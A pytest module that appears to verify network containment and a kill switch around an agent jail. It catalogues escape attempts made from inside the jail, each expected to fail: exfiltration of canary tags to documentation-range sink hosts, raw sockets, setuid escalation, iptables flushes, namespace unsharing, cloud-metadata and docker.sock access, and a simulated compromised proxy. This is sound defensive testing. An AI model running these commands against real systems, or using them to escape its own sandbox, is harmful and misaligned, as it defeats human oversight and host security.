"""Catalogue items 1-13: the kill switch and containment, attacked from inside the jail.

Every attack is carried out by the agent (user nobody) in the session's main jail and
judged by `attacklib.judge`: the agent's own view, then its tag searched in the lab's
servers, the catch-all on every port, the simulated host's services and both packet
captures. Checks that need the test's side (a compromised proxy uid, the live rules)
run while the jail is up (`attacklib.live`).
"""

from __future__ import annotations

import json
import re
import subprocess

import pytest

import attacklib as lib
import jailrun as jail
from attacklib import HOST_V4, LAN
from panopticond.plan import DNS_PORT, TRANSPARENT_PORT

pytestmark = pytest.mark.root

A = lib.declare_module(__name__)
WWW4, WWW6 = "198.51.100.10", "2001:db8:10::10"
V4_NAME, V6_NAME = jail.V4_ONLY[0], jail.V6_ONLY[0]
HTTP = "GET /@T@ HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n"


def all_refused(r: dict) -> bool:
    return all(not v.get("connected") for k, v in r.get("results", {}).items()
               if k.startswith("tcp") and not k.endswith((" 80", " 53")))


# -- 1 IPv6 ------------------------------------------------------------------------------
A(1, "v6 HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V6_NAME}/c1/@T@"])
A(1, "v6 TCP to a sink port", "tcp", host=WWW6, port=8080, payload="@T@", expect=lib.refused)
A(1, "v6 TCP to any port (catch-all)", "tcp", host=WWW6, port=4444, payload="@T@",
  expect=lib.refused)
A(1, "v6 TCP to an unrouted address", "tcp", host="2001:db8:99::1", port=5000, payload="@T@",
  expect=lib.refused)
A(1, "v6 UDP", "udp", host=WWW6, port=40000, payload="@T@", expect=lib.no_answer)
A(1, "link-local and ULA gateways, all-nodes multicast", "gateway", tcp=[22, 8080, 9999],
  udp=[123, 9999], payload="@T@", expect=all_refused)

# -- 2 UDP -------------------------------------------------------------------------------
A(2, "DNS through the jail's listener", "dns", control=True, server="198.51.100.53",
  name="@T@.wild.example", expect=lambda r: r.get("rcode") == 3)
for port in (9999, 40000, 853, 123):
    A(2, f"UDP to port {port}", "udp", host=WWW4, port=port, payload="@T@",
      expect=lib.no_answer)
A(2, "QUIC (UDP 443) fails fast", "udp", host=WWW4, port=443, payload="@T@",
  expect=lambda r: ("Refused" in r.get("error", "") or "PermissionError" in r.get("error", ""))
  and r["elapsed"] < 0.9)
A(2, "UDP to an unrouted address", "udp", host="198.51.100.99", port=5000, payload="@T@",
  expect=lib.no_answer)
A(2, "non-DNS bytes to port 53", "udp", host="198.51.100.53", port=53,
  payload="@T@ this is not DNS", expect=lambda r: True)

# -- 3 other TCP ports, IP literals ------------------------------------------------------------
A(3, "HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME}/c3/@T@"])
for host, port in ((WWW4, 22), (WWW4, 8080), (WWW4, 4444), ("198.51.100.99", 5555),
                   ("198.51.100.53", 53000)):
    A(3, f"TCP to {host}:{port}", "tcp", host=host, port=port, payload="@T@",
      expect=lib.refused)
A(3, "IP literal over HTTP", "curl", argv=[f"http://{WWW4}/@T@"], expect=lib.not_ok_status)
A(3, "IP literal over HTTPS", "curl", argv=["-k", f"https://{WWW4}/@T@"],
  expect=lib.not_ok_status)
A(3, "v6 IP literal over HTTPS", "curl", argv=["-k", f"https://[{WWW6}]/@T@"],
  expect=lib.not_ok_status)

# -- 4 ICMP and other protocols --------------------------------------------------------------
A(4, "HTTP to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"http://{V4_NAME}/c4/@T@"])
A(4, "ICMP echo from a ping socket", "socket", family="AF_INET", type="SOCK_DGRAM", proto=1,
  host=WWW4, icmp_echo=True, payload="@T@", expect=lambda r: not r.get("sent"))
A(4, "ICMPv6 echo from a ping socket", "socket", family="AF_INET6", type="SOCK_DGRAM",
  proto=58, host=WWW6, icmp_echo=True, payload="@T@", expect=lambda r: not r.get("sent"))
A(4, "the ping binary", "exec", argv=["ping", "-c", "1", "-W", "1", "-p", "@THEX@", WWW4],
  expect=lib.failed_exec)
A(4, "UDP-Lite (IP protocol 136)", "socket", family="AF_INET", type="SOCK_DGRAM", proto=136,
  host=WWW4, port=9999, payload="@T@")
A(4, "UDP-Lite over IPv6", "socket", family="AF_INET6", type="SOCK_DGRAM", proto=136,
  host=WWW6, port=9999, payload="@T@")

# -- 5 raw and packet sockets, capabilities ----------------------------------------------------
A(5, "HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME}/c5/@T@"])
A(5, "AF_PACKET socket", "socket", family="AF_PACKET", type="SOCK_RAW", host="lo",
  payload="@T@", expect=lambda r: r.get("opened") is False)
A(5, "raw IPv4 socket", "socket", family="AF_INET", type="SOCK_RAW", proto=255, host=WWW4,
  payload="@T@", expect=lambda r: r.get("opened") is False)
A(5, "raw IPv6 socket", "socket", family="AF_INET6", type="SOCK_RAW", proto=17, host=WWW6,
  payload="@T@", expect=lambda r: r.get("opened") is False)
CAPS = A(5, "no capabilities, no_new_privs", "status",
         expect=lambda r: all(int(r["status"][k], 16) == 0 for k in
                              ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"))
         and r["status"]["NoNewPrivs"] == "1")
A(5, "a setuid-root binary", "exec", argv=["@SUID_ID@"],
  expect=lambda r: r.get("rc") == 0 and "euid=0" not in r["stdout"])
A(5, "a binary with CAP_NET_RAW as a file capability", "exec",
  argv=["@CAP_PYTHON@", "-c", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW,"
        f" 1); s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01@T@', ('{WWW4}', 0))"],
  expect=lib.failed_exec)

# -- 6 root in the jail ----------------------------------------------------------------------
A(6, "HTTPS to an allowed name after the attempts", "curl", control=True, serial=True,
  expect=lib.status(200), argv=[f"https://{V4_NAME}/c6/@T@"])
for argv in (["iptables-legacy", "-P", "OUTPUT", "ACCEPT"], ["iptables-legacy", "-F"],
             ["ip6tables-legacy", "-F"], ["iptables-legacy", "-t", "nat", "-F"],
             ["iptables", "-F"], ["ip", "route", "replace", "default", "dev", "lo"],
             ["ip", "addr", "add", "198.51.100.222/32", "dev", "lo"],
             ["sh", "-c", "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter"]):
    A(6, " ".join(argv[:3]), "exec", argv=argv, expect=lib.failed_exec)
A(6, "TCP out after the attempts", "tcp", serial=True, host=WWW4, port=8080, payload="@T@",
  expect=lib.refused)

# -- 7 user namespaces ----------------------------------------------------------------------
USERNS = A(7, "unshare(CLONE_NEWUSER)", "unshare", flags=["CLONE_NEWUSER"],
           expect=lambda r: not r["unshared"])
A(7, "unshare(CLONE_NEWNET) without a user namespace", "unshare", flags=["CLONE_NEWNET"],
  expect=lambda r: not r["unshared"])
A(7, "HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME}/c7/@T@"])

# -- 8 the proxy uid -------------------------------------------------------------------------
A(8, "the agent has none of the proxy's groups", "status",
  expect=lambda r: str(lib.PROXY_GID) not in r["status"]["Groups"].split()
  and r["status"]["Uid"].split()[0] != str(lib.PROXY_UID))
A(8, "write into the proxy's load path, confdir and runtime dir", "write", dirs="@PROXY_DIRS@",
  more=["@RUN@", "@RUN@/ca", "/run/panopticon", "/opt/panopticon"], name="sitecustomize.py",
  expect=lambda r: r["made"] == [] and r["refused"])
A(8, "signal, trace or read the proxy's processes", "proc", uid=lib.PROXY_UID,
  expect=lambda r: r["pids"] and not [k for k, v in r["attempts"].items()
                                      if v in ("read", "sent") or isinstance(v, list)])

# -- 9 host, LAN, metadata ------------------------------------------------------------------
A(9, "HTTPS to an allowed name", "curl", control=True, expect=lib.status(200),
  argv=[f"https://{V4_NAME}/c9/@T@"])
for url in ("http://169.254.169.254/latest/meta-data/@T@", "http://[fd00:ec2::254]/@T@",
            "http://[::ffff:169.254.169.254]/@T@", "http://[64:ff9b::a9fe:a9fe]/@T@",
            f"http://{LAN}/@T@", "http://100.64.0.7/@T@", f"http://{HOST_V4}/@T@",
            "http://[2001:db8:ffff::2]/@T@", "https://169.254.169.254/@T@"):
    A(9, url.replace("/@T@", "").replace("/latest/meta-data", ""), "curl", argv=["-k", url],
      expect=lib.not_ok_status)
A(9, "Host: 169.254.169.254 on an allowed connection", "curl",
  argv=["-H", "Host: 169.254.169.254", f"http://{V4_NAME}/@T@"], expect=lib.not_ok_status)
A(9, "metadata on another port", "tcp", host="169.254.169.254", port=8080, payload="@T@",
  expect=lib.refused)
for host, port in ((HOST_V4, 22), (HOST_V4, 8080), ("2001:db8:ffff::2", 22), (LAN, 22)):
    A(9, f"TCP to {host}:{port}", "tcp", host=host, port=port, payload="@T@",
      expect=lib.refused)
for host, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("ff02::fb", 5353),
                   (HOST_V4, 9999), ("203.0.113.255", 9999)):
    A(9, f"UDP to {host}:{port}", "udp", host=host, port=port, payload="@T@",
      expect=lib.no_answer)

# -- 10 listeners in the jail ------------------------------------------------------------------
A(10, "HTTPS to an allowed name (through the REDIRECT)", "curl", control=True,
  expect=lib.status(200), argv=[f"https://{V4_NAME}/c10/@T@"])
for host, port in (("127.0.0.1", TRANSPARENT_PORT), ("::1", TRANSPARENT_PORT),
                   ("127.0.0.1", DNS_PORT), ("::1", DNS_PORT)):
    A(10, f"TCP straight to the proxy's {host}:{port}", "tcp", host=host, port=port,
      payload=HTTP.format(V4_NAME), expect=lib.refused)
A(10, "UDP straight to the proxy's DNS port", "udp", host="127.0.0.1", port=DNS_PORT,
  payload="@T@", expect=lib.no_answer)
A(10, "every listening port of the jail, directly", "listening", payload=HTTP.format(V4_NAME),
  expect=lambda r: r["ports"] and "connected" not in r["ports"].values())

# -- 11 Unix sockets ---------------------------------------------------------------------------
UNIX = A(11, "a host service's Unix socket (stand-in)", "unix", paths=["@UNIX@"], payload="@T@",
         judged=False)
REAL_SOCKETS = ["/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket",
                "/var/run/nscd/socket", "/var/run/docker.sock", "/run/docker.sock",
                "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify",
                "/run/systemd/journal/stdout", "/run/containerd/containerd.sock",
                "/run/podman/podman.sock"]
REAL = A(11, "the host's well-known Unix sockets (connect only)", "unix", paths=REAL_SOCKETS,
         judged=False)

# -- 12, 13: checked live, below -------------------------------------------------------------


@pytest.mark.parametrize("a", lib.params(__name__))
def test_attack(main_run, a):
    lib.judge(main_run, a)


# -- from the test's side --------------------------------------------------------------------

COMPROMISED = r"""
import json, socket, sys
tag, ctl = sys.argv[1], sys.argv[2]
out = {}
def tcp(host, port, payload):
    try:
        with socket.create_connection((host, port), timeout=2) as c:
            c.sendall(payload.encode())
            c.settimeout(2)
            return "connected:" + c.recv(20).decode("latin-1")
    except OSError as e:
        return type(e).__name__
def udp(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(tag.encode(), (host, port)); return "sent"
    except OSError as e:
        return type(e).__name__
for host, port in json.loads(sys.argv[3]):
    out[f"{host}:{port}"] = tcp(host, port, f"GET /{tag} HTTP/1.1\r\nHost: x\r\n\r\n")
out["udp"] = udp("198.51.100.10", 9999)
out["control"] = tcp("198.51.100.10", 80, f"GET /{ctl}proxy HTTP/1.1\r\nHost: www.allowed.example\r\nConnection: close\r\n\r\n")
print(json.dumps(out))
"""


@lib.live()
def compromised_proxy(lab, name, canary, control):
    """Code running as the proxy's uid (a compromised mitmproxy) inside the jail."""
    gw = subprocess.run(["ip", "-n", f"panopticon-{name}", "-j", "route", "show", "default"],
                        capture_output=True, text=True).stdout
    gateway = json.loads(gw)[0]["gateway"]
    targets = [["169.254.169.254", 80], ["fd00:ec2::254", 80], [LAN, 80], [HOST_V4, 22],
               [HOST_V4, 80], [gateway, 22], [gateway, 80], [WWW4, 8080],
               ["127.0.0.1", TRANSPARENT_PORT]]
    p = subprocess.run(["nsenter", f"--net=/run/netns/panopticon-{name}", "setpriv",
                        "--reuid", str(lib.PROXY_UID), "--regid", str(lib.PROXY_GID),
                        "--clear-groups", jail.VENV_PYTHON, "-c", COMPROMISED, canary + "proxy",
                        control, json.dumps(targets)], capture_output=True, text=True, timeout=60)
    return {"out": json.loads(p.stdout) if p.stdout.strip() else {}, "stderr": p.stderr[-500:],
            "gateway": gateway}


@lib.live()
def live_rules(lab, name, canary, control):
    ns = ["nsenter", f"--net=/run/netns/panopticon-{name}"]
    dumps = {}
    for tool in ("iptables-legacy-save", "ip6tables-legacy-save", "iptables-nft-save",
                 "ip6tables-nft-save"):
        p = subprocess.run([*ns, tool], capture_output=True, text=True, timeout=30)
        dumps[tool] = p.stdout
    return dumps


@pytest.mark.threat(9, "a compromised proxy uid reaches no host, LAN or metadata address")
def test_9_the_proxy_uid_itself_is_fenced(main_run):
    live = main_run.live["compromised_proxy"]
    out = live["out"]
    assert out, live
    # Positive control: the proxy uid reaches a public address on 80 (that is its job).
    assert out.pop("control").startswith("connected:HTTP/1.1 200"), live
    assert main_run.events_with(main_run.control + "proxy")
    assert not [k for k, v in out.items() if v.startswith("connected")], out
    assert not main_run.trace(main_run.canary + "proxy"), main_run.trace(main_run.canary + "proxy")


@pytest.mark.threat(9, "control: the metadata, LAN and host stand-ins answer the host")
def test_9_control_the_stand_ins_answer(attack_lab):
    mark = attack_lab.mark()
    for url in ("http://169.254.169.254/ctl9", "http://[fd00:ec2::254]/ctl9",
                f"http://{LAN}/ctl9"):
        r = attack_lab.host_exec(["curl", "-sS", "-m", "5", url])
        assert r.returncode == 0, (url, r.stderr)
    code = f"import socket; socket.create_connection(('{HOST_V4}', 22), 3).sendall(b'ctl9')"
    attack_lab.host_exec([jail.VENV_PYTHON, "-c", code], check=True)
    hits = attack_lab.wait_events(since=mark, count=4, path=lambda p: p is None or "ctl9" in p,
                                  server_ip=lambda ip: ip != "198.51.100.53")
    assert {e["server_ip"] for e in hits} >= {"169.254.169.254", "fd00:ec2::254", LAN}


@pytest.mark.threat(5, "control: the setuid and file-capability binaries do lift nobody")
def test_5_control_the_escalators_work_outside_the_jail(main_run):
    nobody = ["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups"]
    p = subprocess.run([*nobody, main_run.vars["SUID_ID"]], capture_output=True, text=True,
                       timeout=20)
    assert "euid=0" in p.stdout, p
    p = subprocess.run([*nobody, main_run.vars["CAP_PYTHON"], "-c", "import socket; "
                        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"],
                       capture_output=True, text=True, timeout=20)
    assert p.returncode == 0, p.stderr


@pytest.mark.threat(11, "a host service's Unix socket where a session bus lives")
def test_11_host_unix_sockets_are_out_of_reach(main_run):
    r = main_run.results[UNIX.id]
    assert r["ok"], r
    assert r["paths"] != {} and "connected" not in r["paths"].values(), r
    assert not [b for b in main_run.live["unix_received"] if main_run.tag(UNIX) in b]


@pytest.mark.threat(11, "the host's well-known Unix sockets (those present here)")
def test_11_no_well_known_host_socket_is_reachable(main_run):
    r = main_run.results[REAL.id]
    assert r["ok"], r
    reachable = [p for p, v in r["paths"].items() if v == "connected"]
    assert reachable == [], f"LEAK: the agent connects to {reachable}"


@pytest.mark.threat(12, "live rules: DROP policies in both families, read back")
def test_12_the_live_rules_drop_by_default(main_run):
    dumps = main_run.live["live_rules"]
    for tool in ("iptables-legacy-save", "ip6tables-legacy-save"):
        text = dumps[tool]
        for chain in ("INPUT", "FORWARD", "OUTPUT"):
            assert f":{chain} DROP" in text, (tool, text[:2000])
        assert "-j REDIRECT" in text and "--uid-owner" in text, text[:2000]


@pytest.mark.threat(13, "the rules are in the legacy tables; the nft view is empty")
def test_13_the_rules_live_in_the_legacy_backend(main_run):
    dumps = main_run.live["live_rules"]
    for tool in ("iptables-nft-save", "ip6tables-nft-save"):
        assert "-A " not in dumps[tool], dumps[tool][:1000]
    # Positive control: the legacy view holds them (see 12).
    assert "-A OUTPUT" in dumps["iptables-legacy-save"]


@pytest.mark.threat(5, "control: the capture sees plaintext controls")
def test_the_captures_see_what_leaves(main_run):
    """The oracle's own positive control: plain HTTP with a control tag is in both captures."""
    tag = main_run.control + next(a.id for a in lib.REGISTRY["main"] if a.control
                                  and a.item == 4 and a.kind == "curl")
    assert tag.encode() in main_run.net and tag.encode() in main_run.host
    # And the run's canary crossed the wire only for attacks whose data may go out (an
    # allowed wildcard name looked up, an allowed request): every other leak is caught.
    allowed = {a.id for a in lib.REGISTRY["main"] if a.may_reach != "none"
               or a.args.get("judged") is False}
    for where, data in (("internet", main_run.net), ("host", main_run.host)):
        ids = set(re.findall(re.escape(main_run.canary.encode()) + rb"(n\d{3})", data))
        assert {i.decode() for i in ids} <= allowed, (where, ids)
